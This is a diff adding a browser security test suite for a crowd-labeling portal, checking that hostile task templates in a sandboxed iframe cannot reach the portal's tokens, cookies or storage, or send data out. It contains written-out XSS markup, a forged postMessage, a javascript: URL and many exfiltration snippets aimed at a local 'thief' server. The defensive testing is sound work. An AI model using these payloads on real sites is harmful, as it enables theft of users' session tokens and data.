@@ -1,0 +1,216 @@
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
+import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
+import { ensureWorker, signIn } from '../../bin/commands/workers/accounts';
+import { groupOf, workerPool } from '../../bin/commands/workers/crew';
+import { Laboratory } from '../jobs/laboratory';
+import { launchBrowser } from './support/browser';
+import { PortalUser } from './support/portal-user';
+
+const PASSWORD = 'Plumb-line-1';
+const MARKUP = `<img src=x onerror="parent.postMessage('ran','*');window.ran=1"><script>window.ran=1</script><b>`;
+
+let lab: Laboratory;
+let browser: Browser;
+let context: BrowserContext | undefined;
+let token: string;
+/** Everything that reached a stranger's server. */
+let stolen: string[] = [];
+let thief: Server;
+let thiefOrigin: string;
+
+beforeAll(async () => {
+  thief = createServer((request, response) => {
+    stolen.push(`${request.method} ${request.url}`);
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<p>thief');
+  }).listen(0, '127.0.0.1');
+  await once(thief, 'listening');
+  thiefOrigin = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
+  [lab, browser] = await Promise.all([Laboratory.open(), launchBrowser()]);
+  const pool = workerPool(lab.stack, groupOf(lab.stack.outputs.DefaultWorkteamArn));
+  await ensureWorker(pool, 'victim', PASSWORD);
+  token = await signIn(pool, 'victim', PASSWORD);
+}, 120_000);
+afterEach(async () => {
+  await context?.close();
+  stolen = [];
+});
+afterAll(async () => {
+  await browser?.close();
+  await lab?.close();
+  thief.closeAllConnections();
+  thief.close();
+});
+
+interface Spec {
+  texts?: object[];
+  template?: string;
+  human?: object;
+  plumbline?: object;
+}
+
+/** A job with a template and texts of somebody's who means harm, and the victim at its first task. */
+async function victimAt(name: string, { texts, template, human, plumbline }: Spec): Promise<[Page, Frame]> {
+  const manifest = (texts ?? [{ source: 'pear' }]).map((line) => `${JSON.stringify(line)}\n`).join('');
+  const job = await lab.textJob(name, manifest);
+  const UiConfig = template && { UiTemplateS3Uri: await lab.put(`data/${name}.html`, template) };
+  await lab.jobs.create({
+    ...job,
+    HumanTaskConfig: { ...(job.HumanTaskConfig as object), ...human, ...(UiConfig ? { UiConfig } : {}) },
+    ...(plumbline ? { Plumbline: plumbline } : {}),
+  });
+  for (;;) {
+    const headers = { authorization: `Bearer ${token}` };
+    const { jobs } = (await (await fetch(new URL('/api/jobs', lab.cloud.apiUrl), { headers })).json()) as any;
+    if (jobs.some(({ jobKey }: any) => jobKey === name)) break;
+  }
+  context = await browser.newContext({ locale: 'en-US' });
+  const user = await PortalUser.open(context, lab.cloud.apiUrl);
+  await user.page.evaluate((value) => {
+    sessionStorage.setItem('plumbline.tokens', JSON.stringify({ token: value, expiresAt: 9e15 }));
+    localStorage.setItem('secret', value);
+    document.cookie = 'secret=1';
+  }, token);
+  await user.page.goto(`${lab.cloud.apiUrl}/#/jobs`);
+  await user.page.reload();
+  return [user.page, await enter(user, name)];
+}
+
+async function enter(user: PortalUser, name: string): Promise<Frame> {
+  await user.page.locator('.card').first().waitFor();
+  await user.page.goto(`${lab.cloud.apiUrl}/#/jobs/${name}`);
+  return user.task();
+}
+
+const FORM = '<crowd-form><crowd-input name="a"></crowd-input></crowd-form>';
+
+/** Runs what a hostile template would, in its frame; an error's name is what it gets. */
+const attack = (frame: Frame, code: string): Promise<unknown> =>
+  frame.evaluate(async (text) => {
+    try {
+      const run = new Function('timeout', `return (async () => { ${text} })()`);
+      const timeout = new Promise((resolve) => setTimeout(resolve, 2000, 'nothing happened'));
+      return (await Promise.race([run(timeout), timeout])) ?? 'nothing';
+    } catch (error) {
+      return (error as Error).name;
+    }
+  }, code);
+
+describe('a hostile template', () => {
+  test('gets nothing of the portal, of other tasks, or out of its frame', async () => {
+    const [page, frame] = await victimAt('hostile', { template: FORM });
+    const portalUrl = page.url();
+    const windows: string[] = [];
+    context!.on('page', (opened) => windows.push(opened.url()));
+
+    const denied = async (what: string, code: string, outcome: unknown = 'SecurityError') =>
+      expect([what, await attack(frame, code)]).toEqual([what, outcome]);
+    expect(await frame.evaluate(() => self.origin)).toBe('null');
+    await denied('the parent page', 'return parent.document.title');
+    await denied('the token', 'return parent.sessionStorage.length');
+    await denied('the portal’s address', 'return top.location.href');
+    await denied('other frames', 'return parent.frames[0].frameElement.src', 'TypeError');
+    await denied('its storage', 'return localStorage.length');
+    await denied('the tab’s storage', 'return sessionStorage.length');
+    await denied('cookies', 'return document.cookie');
+    await denied('drafts', 'return indexedDB.open("plumbline").name');
+    await denied('the cache', 'return (await caches.keys()).length');
+    await denied('service workers', 'return navigator.serviceWorker.register("/assets/portal.js")');
+    await denied('to become the portal', 'top.location = "about:blank"');
+    await denied('the API', 'return (await fetch("/api/jobs", { credentials: "include" })).status', 'TypeError');
+    await denied('tasks of others', 'return (await fetch(location.href)).text()', 'TypeError');
+    await denied('workers with an origin', 'new Worker("/assets/portal.js")');
+    await denied('windows', 'return String(window.open("about:blank"))', 'null');
+    await denied(
+      'windows by links',
+      'const a = document.createElement("a"); a.target = "_blank"; a.href = "data:,x"; a.click()',
+      'nothing',
+    );
+    await denied(
+      'a form post',
+      `const f = document.createElement("form"); f.method = "post"; f.action = "${thiefOrigin}/form"; document.body.append(f); f.submit()`,
+      'nothing',
+    );
+
+    // What it could tell somebody.
+    const send = (code: string) => attack(frame, code);
+    await send(`await fetch("${thiefOrigin}/fetch", { mode: "no-cors" })`);
+    await send(`navigator.sendBeacon("${thiefOrigin}/beacon", "x"); await timeout`.replace('; await timeout', ''));
+    await send(
+      `const i = new Image(); i.src = "${thiefOrigin}/image"; await new Promise((r) => { i.onload = i.onerror = r })`,
+    );
+    await send(
+      `const s = document.createElement("script"); s.src = "${thiefOrigin}/script"; document.body.append(s); await new Promise((r) => { s.onload = s.onerror = r })`,
+    );
+    await send(
+      `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${thiefOrigin}/style"; document.head.append(l); await new Promise((r) => { l.onload = l.onerror = r })`,
+    );
+    await send(
+      `const w = new WebSocket("${thiefOrigin.replace('http', 'ws')}/socket"); await new Promise((r) => { w.onopen = w.onerror = r })`,
+    );
+    await send(
+      `const e = new EventSource("${thiefOrigin}/events"); await new Promise((r) => { e.onopen = e.onerror = r })`,
+    );
+    await send(
+      `document.body.insertAdjacentHTML("beforeend", '<iframe src="${thiefOrigin}/frame"></iframe><video src="${thiefOrigin}/video"></video><object data="${thiefOrigin}/object"></object><link rel="prefetch" href="${thiefOrigin}/prefetch">')`,
+    );
+    await send(
+      `await new Promise((r) => { const f = new FontFace("x", "url(${thiefOrigin}/font)"); f.load().then(r, r) })`,
+    );
+    expect(stolen).toEqual([]);
+    expect(windows).toEqual([]);
+    expect(page.url()).toBe(portalUrl);
+    await page.getByRole('button', { name: 'Submit' }).waitFor();
+    await lab.jobs.stop('hostile');
+  });
+
+  test('cannot make the portal believe another frame, nor open a page without the worker', async () => {
+    const link = `<a id="out" href="https://example.com/rules?a=1" target="_blank">rules</a>`;
+    const [page, frame] = await victimAt('messages', { template: `${link}${FORM}` });
+    // A frame within the frame is not the task page.
+    await frame.evaluate(() => {
+      const inner = document.createElement('iframe');
+      inner.srcdoc = `<script>top.postMessage({ type: 'plumbline:submit', answer: { a: 'forged' } }, '*')</script>`;
+      document.body.append(inner);
+      return new Promise((resolve) => inner.addEventListener('load', resolve));
+    });
+    expect(await page.getByRole('button', { name: 'Submit' }).isEnabled()).toBe(true);
+    await frame.evaluate(() => parent.postMessage({ type: 'plumbline:open', url: 'javascript:alert(1)' }, '*'));
+    await frame.locator('#out').click();
+    await page.getByRole('dialog', { name: 'Open this page?' }).waitFor();
+    expect(await page.locator('dialog .address').textContent()).toBe('https://example.com/rules?a=1');
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+    expect(context!.pages()).toHaveLength(1);
+    await lab.jobs.stop('messages');
+  });
+
+  test('reaches what the job’s owner allows', async () => {
+    const [, frame] = await victimAt('allowed', {
+      template: FORM,
+      plumbline: { TaskPage: { AllowedOrigins: [thiefOrigin] } },
+    });
+    await attack(frame, `await fetch("${thiefOrigin}/allowed")`);
+    expect(stolen).toEqual(['GET /allowed']);
+    await lab.jobs.stop('allowed');
+  });
+});
+
+test('texts, labels and titles full of markup do not run, in the task or in the portal', async () => {
+  const [page, frame] = await victimAt('markup', {
+    texts: [{ source: MARKUP, note: MARKUP }],
+    human: { TaskTitle: MARKUP.slice(0, 128), TaskDescription: MARKUP },
+  });
+  expect(await frame.locator('classification-target').textContent()).toContain('onerror');
+  expect(await page.locator('.bar h1').textContent()).toContain('onerror');
+  const ran = () => (globalThis as any).ran;
+  expect([await frame.evaluate(ran), await page.evaluate(ran)]).toEqual([undefined, undefined]);
+  await page.goto(`${lab.cloud.apiUrl}/#/jobs`);
+  await page.locator('.card h2').waitFor();
+  expect(await page.locator('.card').textContent()).toContain('onerror');
+  expect(await page.locator('.card img, .card script').count()).toBe(0);
+  expect(await page.evaluate(ran)).toBeUndefined();
+  await lab.jobs.stop('markup');
+});
